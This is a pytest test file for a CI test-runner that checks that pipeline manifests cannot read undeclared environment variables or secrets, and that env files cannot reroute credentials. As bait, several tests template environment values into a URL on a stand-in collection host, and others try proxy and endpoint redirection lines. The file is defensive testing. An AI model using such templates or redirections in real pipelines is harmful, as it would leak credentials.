"""A change of the manifest alone reads nothing new from the environment, whatever a variable is called."""

from __future__ import annotations

import os
import sys
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from tests.program.conftest import Ended, Stage

HARMLESS_NAMES = (
    *("DB_PW", "SLACK_URL", "CREDS", "SONAR_LOGIN", "SIGNING_CERT", "KUBECONFIG_B64", "OTP_SEED", "DEPLOY_HOOK"),
    *("GPG_PRIVATE", "PATH", "HOME", "CI_JOB_ID"),
)
"""Names that look like those of no secret, and may hold one all the same."""

VALUE = "hunter2hunter2"


def declared(stage: Stage, *names: str, **declaration: object) -> None:
    url = "https://collect.example/?x=" + "&".join(f"{{{{ env.{name} | urlencode }}}}" for name in names)
    stage.commit(stage.doksi("login", url=url), env=dict.fromkeys(names, declaration))


def unnamed(ended: Ended, *names: str) -> None:
    assert ended.code == 2, ended
    for name in names:
        assert f"{name} is set in the environment, but the pipeline does not name it" in ended.text
    assert VALUE not in ended.text


@pytest.mark.parametrize("declaration", [{}, {"default": "x"}], ids=["required", "with a default"])
def test_no_variable_is_read_that_the_pipeline_does_not_name(stage: Stage, declaration: dict[str, object]) -> None:
    there = dict.fromkeys(HARMLESS_NAMES[:-3], VALUE)
    declared(stage, *HARMLESS_NAMES[:-1], **declaration)
    unnamed(stage.apply(**there), *HARMLESS_NAMES[:-1])
    unnamed(stage.run("plan", **there), *HARMLESS_NAMES[:-1])
    assert stage.sent() == []


def test_each_way_of_the_pipeline_lets_a_value_in(stage: Stage) -> None:
    declared(stage, "SHOP_A")
    (stage.folder / "values.yml").write_text("SHOP_A: of a var file\n", encoding="utf-8")
    (stage.folder / "values.json").write_text('{"SHOP_A": "of JSON"}', encoding="utf-8")
    (stage.folder / "ci.env").write_text("SHOP_A=of an env file\n", encoding="utf-8")
    ways: list[tuple[tuple[str, ...], dict[str, str | None], str]] = [
        (("--var", "SHOP_A=given", "--var-file", "values.yml"), {"SHOP_A": VALUE}, "given"),
        (("--var-file", "values.yml"), {"QARUNNER_VAR_SHOP_A": "x"}, "of%20a%20var%20file"),
        (("--var-file", "values.yml", "--var-file", "values.json"), {}, "of%20JSON"),
        ((), {"QARUNNER_VAR_SHOP_A": "of the pipeline", "SHOP_A": VALUE}, "of%20the%20pipeline"),
        (("--env", "SHOP_A"), {"SHOP_A": VALUE}, VALUE),
        ((), {"SHOP_A": VALUE, "QARUNNER_ENV": "OTHER,SHOP_*"}, VALUE),
        (("--env-file", "ci.env"), {}, "of%20an%20env%20file"),
        (("--env-file", "ci.env", "--env", "SHOP_*"), {"SHOP_A": VALUE}, VALUE),
    ]
    for words, variables, value in ways:
        ended = stage.run("plan", "-v", *words, **variables)
        assert (ended.code, f"https://collect.example/?x={value}" in ended.out) == (0, True), ended


def test_what_a_file_gives_does_not_permit_what_the_environment_has(stage: Stage) -> None:
    declared(stage, "SHOP_A")
    (stage.folder / "ci.env").write_text("SHOP_A=meant\n", encoding="utf-8")
    ended = stage.run("plan", "-v", "--env-file", "ci.env", SHOP_A=VALUE)
    assert (ended.code, "https://collect.example/?x=meant" in ended.out) == (0, True), ended
    assert "SHOP_A is set in the environment, too; the env file's value is used" in ended.err
    assert VALUE not in ended.text


def test_a_default_is_used_once_somebody_says_that_the_variable_is_not_meant(stage: Stage) -> None:
    declared(stage, "SHOP_A", default="usual")
    for words, variables in ((("--env", "!SHOP_A"), {}), ((), {"QARUNNER_ENV": "SHOP_*,!SHOP_A"})):
        ended = stage.run("plan", "-v", *words, SHOP_A=VALUE, **variables)
        assert (ended.code, "https://collect.example/?x=usual" in ended.out) == (0, True), ended


def test_validate_and_diff_do_not_look_at_the_environment(stage: Stage) -> None:
    declared(stage, "SHOP_A", format="integer")
    (stage.folder / "before.yml").write_bytes((stage.folder / "qa-matrix.yml").read_bytes())
    for command in (("validate",), ("diff", "before.yml")):
        ended = stage.run(*command, SHOP_A=VALUE, QARUNNER_VAR_SHOP_A=VALUE, QARUNNER_ENV="*")
        assert ended.code == 0, ended
        assert VALUE not in ended.text


def test_explain_shows_what_is_not_named_as_missing(stage: Stage) -> None:
    declared(stage, "SHOP_A", default="usual")
    shown = stage.run("explain", "login", SHOP_A=VALUE)
    assert shown.code == 0, shown
    assert "not known, and shown as templates: SHOP_A" in shown.out
    assert VALUE not in shown.text
    words = ("--env", "SHOP_A", "--var-file", "none.yml", "--allow-secret", "T@shop.example", "--env-file", "none.env")
    assert VALUE in stage.run("explain", "login", *words[:2], SHOP_A=VALUE).out
    assert "--var-file none.yml: cannot be read" in stage.run("explain", "login", *words).err


def test_an_env_file_leads_no_credential_elsewhere_and_allows_no_secret(stage: Stage) -> None:
    stage.commit(stage.doksi("login", url="https://shop.example/{{ env.TOKEN }}"), env={"TOKEN": {"secret": True}})
    path = stage.folder / "ci.env"
    for line in (
        "QARUNNER_DOKSI_URL=http://127.0.0.1:9",
        "QARUNNER_ALLOW_SECRETS=TOKEN@shop.example",
        "HTTPS_PROXY=http://127.0.0.1:9",
        "AWS_SECRET_ACCESS_KEY=x",
    ):
        path.write_text(f"TOKEN={VALUE}\n{line}\n", encoding="utf-8")
        ended = stage.apply("--env-file", "ci.env", "--allow-secret", "TOKEN@shop.example")
        assert (ended.code, "ci.env:2:1: error: " in ended.err) == (2, True), ended
    assert stage.sent() == []


def test_an_env_file_brings_keys_and_secrets_to_apply_and_cancel(stage: Stage) -> None:
    stage.commit(stage.doksi("login", url="https://shop.example/{{ env.TOKEN }}"), env={"TOKEN": {"secret": True}})
    key = stage.environ.pop("DOKSI_API_KEY")
    (stage.folder / "ci.env").write_text(f"DOKSI_API_KEY={key}\nTOKEN={VALUE}\n", encoding="utf-8")
    words = ("--env-file", "ci.env", "--allow-secret", "TOKEN@shop.example")
    ended = stage.apply(*words)
    assert ended.code == 0, ended
    assert stage.creates("doksi")[0]["body"]["matrix"][0]["web_url"] == f"https://shop.example/{VALUE}"
    assert stage.run("cancel", "r1", *words).code == 0
    assert VALUE not in ended.text


def test_all_problems_of_files_and_manifest_are_told_at_once(stage: Stage) -> None:
    declared(stage, "SHOP_A", "SHOP_B")
    (stage.folder / "ci.env").write_text("SHOP_C=1\n", encoding="utf-8")
    (stage.folder / "values.yml").write_text("SHOP_D: 1\n", encoding="utf-8")
    ended = stage.run("plan", "--env-file", "ci.env", "--var-file", "values.yml", SHOP_A=VALUE)
    assert ended.code == 2, ended
    for message in ("SHOP_A is set", "SHOP_B is not set", "ci.env:1:1: error", "values.yml:1:9: error: SHOP_D"):
        assert message in ended.err


def test_a_misspelt_value_is_remarked(stage: Stage) -> None:
    declared(stage, "STAGING", default="usual")
    ended = stage.run("plan", QARUNNER_VAR_STAGNIG="x")
    assert ended.code == 0, ended
    assert "did you mean QARUNNER_VAR_STAGING?" in ended.err


def test_the_child_pipeline_repeats_what_may_be_read_and_no_value_of_a_secret(stage: Stage) -> None:
    stage.commit(
        stage.doksi("login", url="https://shop.example/{{ env.TOKEN }}/{{ env.SHOP_A }}"),
        env={"TOKEN": {"secret": True}, "SHOP_A": {}},
    )
    (stage.folder / "values.yml").write_text("SHOP_A: de\n", encoding="utf-8")
    allow = ("--env", "SHOP_*", "--var-file", "values.yml", "--allow-secret", "TOKEN@shop.example")
    ended = stage.run("plan", "--shards", "1", "--format", "gitlab-ci", "--var", f"TOKEN={VALUE}", *allow)
    assert ended.code == 0, ended
    assert VALUE not in ended.text
    assert "--var-file values.yml --env 'SHOP_*' --allow-secret TOKEN@shop.example" in ended.out


@pytest.mark.skipif(sys.platform != "linux", reason="the environment is text there")
def test_bytes_that_are_not_utf_8_are_one_error_that_names_where_they_are(stage: Stage) -> None:
    bad = os.fsdecode(b"caf\xe9")
    stage.commit(
        stage.doksi("login", url="https://shop.example/{{ env.SHOP_A | urlencode }}", name="{{ vars.v }}"),
        stage.certyn("smoke"),
        env={"SHOP_A": {"default": "x"}},
        vars={"v": "x"},
        vendors={"certyn": {}},
    )
    cases: list[tuple[tuple[str, ...], dict[str, str], str]] = [
        (("--env", "SHOP_A"), {"SHOP_A": bad}, "the value of SHOP_A is not valid UTF-8"),
        (("--var", f"SHOP_A={bad}"), {}, "the value of SHOP_A is not valid UTF-8"),
        ((), {"QARUNNER_VAR_SHOP_A": bad}, "the value of SHOP_A is not valid UTF-8"),
        ((), {"QARUNNER_VAR_v": bad}, "--var v: the value is not valid UTF-8"),
        (("--branch", bad), {}, "--branch: is not valid UTF-8"),
        (("--tag", bad), {}, "--tag: is not valid UTF-8"),
        ((), {"CERTYN_PROJECT": bad}, "CERTYN_PROJECT: is not valid UTF-8"),
        (("--env", bad), {}, "is no name of a variable"),
        (("--allow-secret", bad), {}, "is no variable's name"),
    ]
    for words, variables, message in cases:
        for command in ("plan", "apply"):
            ended = stage.run(command, *words, **{"CERTYN_PROJECT": "shop", **variables})
            assert (ended.code, message in ended.text) == (2, True), ended
    assert stage.sent() == []
